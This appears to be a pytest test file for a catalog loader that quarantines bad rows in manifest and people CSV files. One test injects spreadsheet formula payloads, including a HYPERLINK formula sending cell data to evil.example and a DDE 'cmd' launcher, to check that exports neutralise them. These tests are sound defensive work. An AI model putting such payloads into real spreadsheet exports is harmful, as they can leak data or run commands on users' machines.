"""What a manifest or people.csv row holds can end that row, never stop the batch (issue 11)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy import func, select, update

from catalog.db import session_factory
from catalog.models import LedgerRow, LegacyId, Person
from catalog.schema import migrate
from cli.main import main
from core.errors import InvalidInput
from core.settings import Settings
from tests.factories.tiny import MANIFEST, PEOPLE, make_tiny_archive
from workers.load import load_archive

NUL_ROWS = (
    "PARIS,D4,100,files/visit\x00.txt,Visit,VISIT,2020-03-01,\n"
    "PARIS,D5,100,files/plan.txt,Care\x00plan,CPLAN,2021-06-01,\n"
)


def _load(settings: Settings, root: Path) -> dict[str, object]:
    return load_archive(
        settings,
        manifest=root / "manifest.csv",
        people=root / "people.csv",
        workers=1,
        progress=False,
    )


def _bad_rows(settings: Settings, batch: str) -> dict[int, str]:
    with session_factory(settings.database_url)() as session:
        rows = session.scalars(
            select(LedgerRow).where(LedgerRow.batch == batch, LedgerRow.reason == "bad_row")
        )
        return {row.line_no: row.detail for row in rows}


def test_a_nul_in_a_manifest_field_is_a_bad_row_and_the_batch_completes(
    settings: Settings, tmp_path: Path
) -> None:
    make_tiny_archive(tmp_path)
    (tmp_path / "manifest.csv").write_text(MANIFEST + NUL_ROWS, encoding="utf-8")
    for _ in range(2):  # and a rerun finds nothing left to do
        summary = _load(settings, tmp_path)
        assert summary["status"] == "complete" and summary["unaccounted"] == 0
        assert summary["indexed"] == 3 and summary["quarantined"] == {"bad_row": 2}
    bad = _bad_rows(settings, str(summary["batch"]))
    # File lines: the header is line 1.
    assert bad[5].startswith("line 5: file_path holds control character U+0000")
    assert bad[6].startswith("line 6: title holds control character U+0000")


def test_a_row_registered_with_a_nul_before_the_check_ends_as_a_bad_row(
    settings: Settings, tmp_path: Path
) -> None:
    """A batch registered by an older escr keeps its rows: the loader must not crash on them."""
    make_tiny_archive(tmp_path)
    summary = _load(settings, tmp_path)
    batch = str(summary["batch"])
    with session_factory(settings.database_url)() as session:
        session.execute(
            update(LedgerRow)
            .where(LedgerRow.batch == batch, LedgerRow.line_no == 3)
            .values(
                state="pending",
                reason=None,
                document_id=None,
                payload={"file_path": "files/orphan\x00.txt"},
            )
        )
        session.commit()
    summary = _load(settings, tmp_path)
    assert summary["status"] == "complete" and summary["unaccounted"] == 0
    assert "file_path holds control character U+0000" in _bad_rows(settings, batch)[3]


def test_a_blank_manifest_row_is_accounted_as_a_bad_row(settings: Settings, tmp_path: Path) -> None:
    make_tiny_archive(tmp_path)
    head, *rows = MANIFEST.splitlines(keepends=True)
    (tmp_path / "manifest.csv").write_text(head + rows[0] + ",,,,,,,\n" + "".join(rows[1:]))
    summary = _load(settings, tmp_path)
    assert summary["unaccounted"] == 0 and summary["rows"] == 4
    assert _bad_rows(settings, str(summary["batch"])) == {3: "line 3: blank row"}


def test_a_people_file_with_one_person_twice_is_refused_whole(
    settings: Settings, tmp_path: Path
) -> None:
    make_tiny_archive(tmp_path)
    twice = PEOPLE + "MOS3,Mosaic,PARIS:300,Cy,Cole,2012-01-01,,,children\n"
    twice += "MOS1,Mosaic,PARIS:101,Ann,Ashe,2010-01-01,,,children\n"
    (tmp_path / "people.csv").write_text(twice, encoding="utf-8")
    with pytest.raises(InvalidInput, match="lines 2 and 5 both have person_id 'MOS1'"):
        _load(settings, tmp_path)
    migrate(settings.database_url)
    with session_factory(settings.database_url)() as session:
        assert session.scalar(select(func.count()).select_from(Person)) == 0


def test_a_nul_in_people_csv_is_a_bad_person_row_naming_its_line(
    settings: Settings, tmp_path: Path
) -> None:
    make_tiny_archive(tmp_path)
    people = PEOPLE + "MOS3\x00,Mosaic,PARIS:300,Cy,Cole,2012-01-01,,,children\n"
    (tmp_path / "people.csv").write_text(people, encoding="utf-8")
    summary = _load(settings, tmp_path)
    assert summary["unaccounted"] == 0
    people_summary = summary["people"]
    assert isinstance(people_summary, dict)
    assert people_summary["bad_rows"] == [
        "line 4: person_id holds control character U+0000 at character 5"
    ]


def test_the_row_report_never_writes_a_formula_from_the_manifest(
    settings: Settings, tmp_path: Path
) -> None:
    make_tiny_archive(tmp_path)
    formulas = {
        "D4": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "D5": "@SUM(1+1)*cmd|' /C calc'!A0",
        "D6": "+1+1",
        "D7": "-2+3",
    }
    rows = "".join(
        f'"{value.replace(chr(34), chr(34) * 2)}",{key},100,files/visit.txt,t,,,\n'
        for key, value in formulas.items()
    )
    (tmp_path / "manifest.csv").write_text(MANIFEST + rows, encoding="utf-8")
    batch = str(_load(settings, tmp_path)["batch"])
    report = tmp_path / "rows.csv"
    assert main(["reconcile", batch, "--rows", str(report)]) == 0
    with report.open(encoding="utf-8", newline="") as handle:
        systems = {
            row["source_document_id"]: row["source_system"] for row in csv.DictReader(handle)
        }
    for key, value in formulas.items():
        assert systems[key] == "'" + value  # shown as the text it is, never run
    assert systems["D1"] == "PARIS"


def test_people_values_longer_than_the_catalog_holds_are_bad_person_rows(
    settings: Settings, tmp_path: Path
) -> None:
    make_tiny_archive(tmp_path)
    people = PEOPLE + f"{'M' * 101},Mosaic,PARIS:300,Cy,Cole,2012-01-01,,,children\n"
    people += f"MOS4,Mosaic,PARIS:{'4' * 101},Di,Dale,2012-01-01,,,children\n"
    (tmp_path / "people.csv").write_text(people, encoding="utf-8")
    people_summary = _load(settings, tmp_path)["people"]
    assert isinstance(people_summary, dict)
    bad = people_summary["bad_rows"]
    assert bad[0] == "line 4: person_id is 101 characters, more than 100"
    assert bad[1].startswith("line 5: legacy_ids entry") and bad[1].endswith("longer than 100")


def test_the_people_lengths_are_the_catalog_columns() -> None:
    from workers.sources.people import MAX_CHARS, MAX_LEGACY_ID_CHARS

    columns = Person.__table__.c
    for name, most in MAX_CHARS.items():
        assert columns[name].type.length == most
    assert LegacyId.__table__.c.legacy_id.type.length == MAX_LEGACY_ID_CHARS


def test_the_cli_refuses_a_people_file_with_one_person_twice_in_one_clear_line(
    settings: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    manifest = make_tiny_archive(tmp_path)
    (tmp_path / "people.csv").write_text(PEOPLE + PEOPLE.splitlines()[1] + "\n", encoding="utf-8")
    code = main(["load", str(manifest), "--people", str(tmp_path / "people.csv"), "--quiet"])
    error = capsys.readouterr().err
    assert code == 2 and "Traceback" not in error
    assert "lines 2 and 4 both have person_id 'MOS1'" in error and "nothing was loaded" in error
